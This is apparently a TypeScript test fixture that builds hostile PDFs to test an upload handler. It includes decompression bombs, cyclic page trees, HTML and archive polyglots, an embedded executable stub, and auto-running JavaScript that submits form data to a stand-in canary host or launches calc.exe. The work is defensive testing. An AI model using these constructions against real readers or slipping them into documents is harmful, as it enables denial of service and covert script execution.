import {
  bomb,
  CATALOG,
  compressedPdf,
  objectStream,
  onePage,
  page,
  PAGES,
  pdfOf,
  pdfWithTable,
} from './pdf-maker.ts'

/** The outcome of an upload: accepted and inert, or refused with this code. */
type Fate = 'taken' | 'DAMAGED_PDF'

/** A hostile file, and its acceptable outcomes. */
export type HostilePdf = { name: string; content: Buffer; fates: readonly Fate[] }

const pdf = (name: string, content: Buffer, ...fates: Fate[]): HostilePdf => ({ name, content, fates })

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ')
  const pages = Array.from({ length: count }, () => page())
  return pdfOf([CATALOG, `<</Type/Pages/Kids[${kids}]/Count ${count}>>`, ...pages])
}

/** A page below `depth` nested nodes. */
function deepTree(depth: number): Buffer {
  const nodes = Array.from({ length: depth }, (_, index) => {
    const parent = index === 0 ? '' : `/Parent ${index + 1} 0 R`
    return `<</Type/Pages${parent}/Kids[${index + 3} 0 R]/Count 1>>`
  })
  return pdfOf([CATALOG, ...nodes, `<</Type/Page/Parent ${depth + 1} 0 R/MediaBox[0 0 200 200]>>`])
}

/** A page whose outline has `count` entries, the last of which leads back to the first. */
function ringOfOutlines(count: number): Buffer {
  const entries = Array.from({ length: count }, (_, index) => {
    const next = index === count - 1 ? 5 : index + 6
    return `<</Title(Entry ${index})/Parent 4 0 R/Next ${next} 0 R/Dest[999 0 R/XYZ null]>>`
  })
  const outline = `<</Type/Outlines/First 5 0 R/Last ${count + 4} 0 R/Count ${count}>>`
  return onePage('/Outlines 4 0 R/PageLabels<</Nums[0<</S/Q/St -7>> -3 null]>>', '', outline, ...entries)
}

/** A page with `count` text fields, each filled in. */
function manyFields(count: number): Buffer {
  const refs = Array.from({ length: count }, (_, index) => `${index + 4} 0 R`).join(' ')
  const fields = Array.from(
    { length: count },
    (_, index) => `<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/FT/Tx/T(f${index})/V(v${index})/P 3 0 R>>`,
  )
  return onePage(`/AcroForm<</Fields[${refs}]>>`, `/Annots[${refs}]`, ...fields)
}

/** A page of five metres whose font is none. */
function hugePage(): Buffer {
  const text = { entries: '', stream: Buffer.from('BT /F1 900 Tf 100 100 Td (Wide) Tj ET') }
  const font = { entries: '/Type/FontFile3/Subtype/OpenType', stream: Buffer.from('no font') }
  const fonts = '/Resources<</Font<</F1<</Type/Font/Subtype/Type0/BaseFont/X/DescendantFonts[6 0 R]>>>>>>'
  const descendant = '<</Type/Font/Subtype/CIDFontType0/BaseFont/X/FontDescriptor<</FontFile3 5 0 R>>>>'
  return pdfOf([
    CATALOG,
    PAGES,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 14173 14173]/Contents 4 0 R${fonts}>>`,
    text,
    font,
    descendant,
  ])
}

function withLoopingTables(): Buffer {
  const whole = onePage().toString('latin1')
  return Buffer.from(whole.replace('/Root 1 0 R', `/Root 1 0 R/Prev ${whole.indexOf('xref\n0')}`), 'latin1')
}

const counting = (count: number) => pdfOf([CATALOG, `<</Type/Pages/Kids[3 0 R]/Count ${count}>>`, page()])
const BLANK = 0x20
const hidden = () => bomb('/Type/ObjStm/N 3/First 900000000', BLANK)
const table = () => bomb('/Type/XRef/W[1 4 2]/Size 100000000/Root 1 0 R', 0)

/** Files that take long, take much memory, contain cycles, lie or are truncated; created by each call. */
export function exhaustingPdfs(): HostilePdf[] {
  return [
    pdf('a gigabyte in a page', onePage('', '/Contents 4 0 R', bomb('', BLANK)), 'taken'),
    pdf('a gigabyte of cross-references', pdfWithTable(table()), 'taken', 'DAMAGED_PDF'),
    pdf('a gigabyte of objects', compressedPdf(CATALOG, hidden()), 'DAMAGED_PDF'),
    pdf('10,000 pages', manyPages(10_000), 'taken'),
    pdf(
      'an outline of 50,000 entries in a ring, with broken destinations and labels',
      ringOfOutlines(50_000),
      'taken',
    ),
    pdf('5,000 fields', manyFields(5000), 'taken'),
    pdf('a page of five metres with a broken font', hugePage(), 'taken'),
    pdf('a page tree 20,000 deep', deepTree(20_000), 'taken', 'DAMAGED_PDF'),
    pdf(
      'dictionaries 100,000 deep',
      onePage(`/X ${'<</X '.repeat(100_000)}1${'>>'.repeat(100_000)}`),
      'DAMAGED_PDF',
    ),
    pdf('a million arrays that never end', onePage(`/X ${'['.repeat(1_000_000)}`), 'DAMAGED_PDF'),
    pdf('a page tree in itself', pdfOf([CATALOG, '<</Type/Pages/Kids[2 0 R]/Count 1>>']), 'DAMAGED_PDF'),
    pdf(
      'page trees in a ring',
      pdfOf([CATALOG, PAGES, '<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 3>>']),
      'DAMAGED_PDF',
    ),
    pdf('cross-reference tables in a ring', withLoopingTables(), 'taken'),
    pdf('two thousand million pages, it says', counting(2 ** 31 - 1), 'taken', 'DAMAGED_PDF'),
    pdf('minus five pages, it says', counting(-5), 'taken', 'DAMAGED_PDF'),
    pdf('cut in the middle', manyPages(50).subarray(0, 1500), 'taken', 'DAMAGED_PDF'),
  ]
}

/** Files that are also of another type, or carry something that nothing here opens. */
export function disguisedPdfs(): HostilePdf[] {
  const html = '<html><script>alert(1)</script></html>'
  const program = { entries: '/Type/EmbeddedFile', stream: Buffer.from('MZ\u0090') }
  const names = '/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>'
  const form = {
    entries: '',
    stream: Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'),
  }
  return [
    pdf(
      'a page of HTML as well',
      Buffer.concat([Buffer.from(`%PDF-1.7\n%${html}\n`), onePage().subarray(9)]),
      'taken',
    ),
    pdf('HTML before a PDF', Buffer.concat([Buffer.from(html), onePage()]), 'taken'),
    pdf(
      'an archive after a PDF',
      Buffer.concat([onePage(), Buffer.from('PK\u0003\u0004 PK\u0005\u0006'), Buffer.alloc(18)]),
      'taken',
    ),
    pdf(
      'an embedded program',
      onePage(names, '', '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>', program),
      'taken',
    ),
    pdf('a form of XML', onePage('/AcroForm<</Fields[]/XFA 4 0 R>>', '', form), 'taken'),
  ]
}

/** Files that run a script, start a program, or send data, automatically or at a click; `canary` is an address they call. */
export function activePdfs(canary = 'https://canary.example/'): HostilePdf[] {
  const script = `/S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('${canary}'\\))`
  const launch = '/S/Launch/F(calc.exe)'
  const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[10 10 100 100]/A<<${action}>>>>]`
  const field = `<</Type/Annot/Subtype/Widget/Rect[10 10 100 100]/FT/Tx/T(a)/AA<</K<<${script}>>>>>>`
  const inStream = objectStream([PAGES, page(), `<<${script}>>`])
  return [
    pdf('a script on opening', onePage(`/OpenAction<<${script}>>`), 'taken'),
    pdf('a script by name', onePage(`/Names<</JavaScript<</Names[(a)<<${script}>>]>>>>`), 'taken'),
    pdf('a script on closing', onePage(`/AA<</WC<<${script}>>>>`), 'taken'),
    pdf('a script of a page', onePage('', `/AA<</O<<${script}>>>>`), 'taken'),
    pdf('a script spelt in digits', onePage(`/OpenAction<<${script.replace('Java', '#4aav#61')}>>`), 'taken'),
    pdf('a script behind a link', onePage('', link(script)), 'taken'),
    pdf('a script of a field', onePage('/AcroForm<</Fields[4 0 R]>>', '/Annots[4 0 R]', field), 'taken'),
    pdf(
      'a script in an object stream',
      compressedPdf('<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>', inStream),
      'taken',
    ),
    pdf('a program on opening', onePage(`/OpenAction<<${launch}>>`), 'taken'),
    pdf('a program behind a link', onePage('', link(launch)), 'taken'),
    pdf('a program after a jump', onePage('', link(`/S/GoTo/D[3 0 R/Fit]/Next<<${launch}>>`)), 'taken'),
    pdf('a form sent at a click', onePage('', link(`/S/SubmitForm/F(${canary})`)), 'taken'),
    pdf('data fetched at a click', onePage('', link('/S/ImportData/F(data.fdf)')), 'taken'),
  ]
}
